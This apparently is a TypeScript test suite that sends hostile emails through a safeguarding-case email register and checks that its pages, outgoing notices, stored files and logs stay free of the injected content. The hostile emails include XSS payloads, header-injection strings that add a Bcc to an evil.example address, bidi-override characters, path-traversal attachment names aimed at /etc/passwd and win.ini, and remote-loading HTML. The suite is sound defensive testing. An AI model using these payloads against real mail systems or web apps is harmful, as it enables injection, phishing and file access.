import { readdirSync, readFileSync } from 'node:fs'
import { join, sep } from 'node:path'
import { Parser } from 'htmlparser2'
import { simpleParser } from 'mailparser'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { expectBalance } from './balance.ts'
import { ADULTS, BUSINESS_UNIT, CHILDREN, TEACHER, TEAM_MANAGER } from './people.ts'
import { postRaw } from './post.ts'
import { Program } from './program.ts'
import type { MailShown, Notice } from './register.ts'

const DECLARES =
  'Further to our call, please treat this as step one of the Safeguarding Partnership’s Escalation Process.'
const SCRIPT = '<script>taken(1)</script>'
const BREAKS = 'T. Okafor\r\nBcc: victim@evil.example\r\nX-Evil: yes\r\n\r\n<script>taken(2)</script>'
const OVERRIDE = '\u202Eexe.fdp\u2066\u200B'
const encoded = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`

const REMOTE_HTML = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css"</style></head>
<body onload="taken(3)" background="https://evil.example/c.png"><p>${DECLARES}</p>
<img src="https://evil.example/pixel.gif" onerror="taken(4)"><svg onload="taken(5)"><a xlink:href="javascript:taken(6)">x</a></svg>
<iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/login"><input name="password"></form>
<a href="javascript:taken(7)">the plan</a><p>&lt;script&gt;taken(8)&lt;/script&gt;</p>
<object data="https://evil.example/d.swf"></object><math><mtext></math></body></html>`

interface Hostile {
  readonly what: string
  readonly mailbox?: string
  readonly from?: string
  readonly subject?: string
  readonly to?: string
  readonly headers?: readonly string[]
  readonly body?: string
}

const part = (disposition: string, type = 'application/octet-stream'): string =>
  ['--b', `Content-Type: ${type}`, `Content-Disposition: ${disposition}`, '', 'x'].join('\r\n')

const withParts = (...parts: readonly string[]): Hostile => ({
  what: 'names of attachments that are paths, markup, headers or written backwards',
  headers: ['Content-Type: multipart/mixed; boundary=b'],
  body: ['--b', 'Content-Type: text/plain; charset=utf-8', '', DECLARES, ...parts, '--b--'].join('\r\n'),
})

const MAILS: readonly Hostile[] = [
  { what: 'a script in the name', from: `"${SCRIPT}" <${TEACHER}>` },
  { what: 'a header in an encoded name', from: `${encoded(BREAKS)} <${TEACHER}>` },
  { what: 'a name that is written backwards', from: `${encoded(`T. Okafor ${OVERRIDE}`)} <${TEACHER}>` },
  { what: 'another address as the name', from: `"business.unit@waltham-forest.example" <${TEACHER}>` },
  { what: 'a script in the subject', subject: `Step one ${SCRIPT}"><img src=x onerror=taken(9)>` },
  {
    what: 'a header in an encoded subject',
    subject: encoded(`Escalation\r\nBcc: victim@evil.example\r\n\r\n${SCRIPT}`),
  },
  { what: 'a subject that is written backwards', subject: encoded(`Escalation ${OVERRIDE}`) },
  { what: 'a subject of 200,000 characters', subject: `Escalation${'\r\n elephant'.repeat(22_000)}` },
  {
    what: 'a recipient with a script as its name',
    to: `"${SCRIPT}" <${TEAM_MANAGER}>, ${encoded(BREAKS)} <x@evil.example>`,
  },
  {
    what: 'a Message-ID that closes a tag',
    headers: [`Message-ID: <"><script>taken(10)</script>@evil.example>`],
  },
  {
    what: 'a thread of headers',
    headers: [`References: <a@b>${SCRIPT}\r\n <c@d>`, `In-Reply-To: <${SCRIPT}@evil.example>`],
  },
  {
    what: 'a page with remote pictures, forms, frames and scripts',
    mailbox: ADULTS,
    to: 'team.manager@adult-care.example',
    headers: ['Content-Type: text/html; charset=utf-8'],
    body: REMOTE_HTML,
  },
  { what: 'markup in plain text', body: `${DECLARES}\r\n\r\n${REMOTE_HTML}\r\n${OVERRIDE}\0\x1b[2J` },
  withParts(
    part('attachment; filename="../../../../etc/passwd"'),
    part('attachment; filename="..\\..\\windows\\win.ini"'),
    part(`attachment; filename="\\"><script>taken(11)</script>.pdf"`),
    part(`attachment; filename*=utf-8''plan%0d%0aX-Evil%3a%20yes.pdf`),
    part(`attachment; filename="${encoded(`plan${OVERRIDE}`)}"`),
    part('attachment; filename="con\0.pdf"'),
    part('inline; filename="page.html"', 'text/html'),
  ),
]

/** In turn, so that several open a case of their own and run through all that comes of it. */
const MAILBOXES = [
  CHILDREN,
  'escalations@blackpool.example',
  'escalations@bedford.example',
  'escalations@hammersmith-fulham.example',
  'escalations@liverpool.example',
]
const mailboxOf = ({ mailbox }: Hostile, index: number): string =>
  mailbox ?? MAILBOXES[index % MAILBOXES.length] ?? CHILDREN

function rawOf(hostile: Hostile, index: number): string {
  const { from, subject, to, headers, body } = hostile
  return [
    `From: ${from ?? `T. Okafor <${TEACHER}>`}`,
    `To: ${to ?? TEAM_MANAGER}`,
    `Cc: ${mailboxOf(hostile, index)}`,
    `Subject: ${subject ?? 'Step one of the escalation process'}`,
    ...(headers?.some((each) => /^message-id:/i.test(each)) === true
      ? []
      : [`Message-ID: <hostile-${index}@parkside.example>`]),
    'MIME-Version: 1.0',
    ...(headers ?? []),
    ...(headers?.some((each) => /^content-type:/i.test(each)) === true
      ? []
      : ['Content-Type: text/plain; charset=utf-8']),
    '',
    body ?? `${DECLARES}\r\n\r\nCanary Wren, aged 6, was seen today.`,
    '',
  ].join('\r\n')
}

/** What in a page would run, load, send or lead anywhere but to the register itself, as a browser would parse it. */
function takesOver(html: string): string[] {
  const found: string[] = []
  const parser = new Parser({
    onopentag(name, attributes) {
      const tag = `<${name} ${JSON.stringify(attributes)}>`
      if (STRANGE.has(name) || (name === 'script' && attributes['src']?.startsWith('/assets/') !== true))
        found.push(tag)
      for (const [attribute, value] of Object.entries(attributes)) {
        if (
          attribute.startsWith('on') ||
          (LEADS.has(attribute) && !/^(?:[/#?]|mailto:|tel:|https?:\/\/(?!evil))/.test(value))
        )
          found.push(tag)
        if (LEADS.has(attribute) && /evil|taken/.test(value)) found.push(tag)
      }
    },
  })
  parser.end(html)
  return found
}
const STRANGE = new Set(['img', 'iframe', 'object', 'embed', 'base', 'frame', 'math', 'applet'])
const LEADS = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'data',
  'background',
  'poster',
  'xlink:href',
  'srcset',
])
const DIRECTION = /[\u202A-\u202E\u2066-\u2069\u200B]/u

describe('hostile content, all the way through', () => {
  let program: Program
  let mail: readonly MailShown[]
  let notices: readonly Notice[]
  const page = async (path: string): Promise<string> => {
    const answer = await program.register.get(path)
    expect([path, answer.status]).toEqual([path, 200])
    return await answer.text()
  }

  beforeAll(async () => {
    program = await Program.start()
    for (const [index, hostile] of MAILS.entries())
      await postRaw(program, rawOf(hostile, index), TEACHER, mailboxOf(hostile, index))
    mail = await program.register.mail()
    notices = await program.register.outbox()
  }, 240_000)
  afterAll(async () => {
    await program.remove()
  })

  it('loses no mail: each is in the ledger with one outcome, and its bytes are kept', async () => {
    expect(mail).toHaveLength(MAILS.length)
    const kept = await Promise.all(
      mail.map(async ({ id }) => await (await program.register.get(`/mail/${id}/raw`)).text()),
    )
    for (const [index, hostile] of MAILS.entries()) {
      const raw = rawOf(hostile, index)
      const body = raw.slice(raw.indexOf('\r\n\r\n'))
      expect([
        hostile.what,
        kept.some((each) => each.replace(/\r?\n/g, '\n').includes(body.replace(/\r?\n/g, '\n').trim())),
      ]).toEqual([hostile.what, true])
    }
    await expectBalance(program)
  })

  it('gives the mail as it came as a file to keep, never as a page', async () => {
    for (const { id } of mail) {
      const { headers } = await program.register.get(`/mail/${id}/raw`)
      expect(headers.get('content-disposition')).toMatch(/^attachment; filename="[\w.-]+"$/)
      expect(headers.get('content-type')).not.toMatch(/html/)
      expect(headers.get('x-content-type-options')).toBe('nosniff')
    }
  })

  it('shows every page without a tag, a link out or a turned word of the sender’s', async () => {
    const cases = [...new Set(mail.flatMap(({ reference }) => reference ?? []))]
    const paths = [
      ...['/', '/cases', '/held', '/mail', '/outbox'],
      ...cases.map((reference) => `/cases/${reference}`),
      ...mail.map(({ id, outcome }) => (outcome === 'held' ? `/held/${id}` : `/mail/${id}`)),
      ...notices.map(({ id }) => `/outbox/${id}`),
    ]
    expect(cases.length).toBeGreaterThan(4)
    // What is looked for is found where nothing is escaped.
    expect(takesOver(REMOTE_HTML).length).toBeGreaterThan(5)
    for (const path of paths) {
      const shown = await page(path)
      expect([path, takesOver(shown)]).toEqual([path, []])
      expect([path, DIRECTION.test(shown)]).toEqual([path, false])
      expect([path, shown.includes('\0') || shown.includes('\x1b')]).toEqual([path, false])
    }
  }, 120_000)

  it('still shows a person what was written, as text', async () => {
    const html = await Promise.all(
      mail.map(async ({ id, outcome }) => await page(outcome === 'held' ? `/held/${id}` : `/mail/${id}`)),
    )
    expect(html.some((each) => each.includes('&lt;script&gt;taken(1)&lt;/script&gt;'))).toBe(true)
    expect(html.some((each) => each.includes('etc/passwd'))).toBe(true)
    expect(html.some((each) => each.includes('&lt;script&gt;taken(8)&lt;/script&gt;'))).toBe(true)
  })

  it('writes notices whose headers are ours alone, and whose page holds no tag of the sender’s', async () => {
    expect(notices.length).toBeGreaterThan(0)
    const sent = notices.filter(({ state }) => state === 'shown')
    expect(sent.length).toBeGreaterThan(0)
    for (const { id, to, subject } of sent) {
      const raw = readFileSync(join(program.dataDir, 'archive', 'notices', `${id}.eml`), 'latin1')
      const head = raw.slice(0, raw.search(/\r?\n\r?\n/))
      const names = head.split(/\r?\n(?![ \t])/).map((line) => line.slice(0, line.indexOf(':')).toLowerCase())
      expect(names.filter((name) => ['bcc', 'cc', 'x-evil', ''].includes(name))).toEqual([])
      expect(new Set(names).size).toBe(names.length)
      expect(to).not.toContain('evil.example')
      expect(subject).not.toMatch(/[\p{Cc}\p{Cf}<>]/u)
      expect(subject.length).toBeLessThanOrEqual(200)
      const { html, text } = await simpleParser(raw)
      const shown = html === false ? '' : html
      expect([id, takesOver(shown)]).toEqual([id, []])
      expect([id, DIRECTION.test(`${text ?? ''}${shown}`)]).toEqual([id, false])
    }
  })

  it('writes to nobody whom only the mail names', () => {
    const told = new Set(notices.map(({ to }) => to))
    expect([...told].filter((each) => each.endsWith('evil.example'))).toEqual([])
    expect(told).toContain(TEACHER)
    expect(told.has(BUSINESS_UNIT) || told.has(TEAM_MANAGER)).toBe(true)
  })

  it('keeps every file under a name of its own', () => {
    const files = readdirSync(program.dataDir, { recursive: true, encoding: 'utf8' })
    for (const file of files) expect(file.split(sep).join('/')).toMatch(/^[\w@.+-]+(?:\/[\w@.+-]+)*$/)
    expect(files.filter((file) => /passwd|win\.ini|page\.html|\.\./.test(file))).toEqual([])
  })

  it('writes nothing of a mail to the log', () => {
    const log = program.log.join('\n')
    expect(log).not.toMatch(/taken\(|evil|Canary|Wren|okafor|passwd|elephant/i)
  })

  it('answers the interfaces for programs as data that no browser takes for a page', async () => {
    for (const path of ['/api/mail?limit=1000', '/api/cases?limit=1000', '/api/outbox?limit=1000']) {
      const answer = await program.register.get(path)
      expect(answer.headers.get('content-type')).toMatch(/^application\/json/)
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
    }
  })
})
